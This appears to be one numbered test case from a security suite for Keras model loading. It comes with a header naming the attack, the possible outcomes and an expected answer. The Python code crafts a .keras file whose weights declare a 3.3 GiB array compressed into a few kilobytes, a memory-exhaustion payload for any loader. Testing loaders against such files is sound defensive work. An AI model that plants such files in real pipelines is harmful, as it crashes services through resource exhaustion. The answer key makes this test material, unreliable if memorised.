# /// attack
# number = 66
# title = "A weights file that declares 3.3 GiB in a few kilobytes"
# verdict = ["memory", "error", "wrong"]
# answer = "saved"
# ///
import io, zipfile
import h5py
def honest():
    model = keras.Sequential([keras.Input((1,)), keras.layers.Dense(1)])
    model.set_weights([np.array([[2.0]]), np.array([1.0])])
    return model
def saved(path):
    honest().save(path)
    with zipfile.ZipFile(path) as old:
        members = {name: old.read(name) for name in old.namelist()}
    buffer = io.BytesIO(members["model.weights.h5"])
    with h5py.File(buffer, "a") as file:
        vars = file["layers/dense/vars"]
        del vars["0"]
        vars.create_dataset("0", shape=(30_000, 30_000), dtype="float32", chunks=(1000, 1000), compression="gzip")
    members["model.weights.h5"] = buffer.getvalue()
    with zipfile.ZipFile(path, "w") as new:
        for name, data in members.items():
            new.writestr(name, data)
    return path
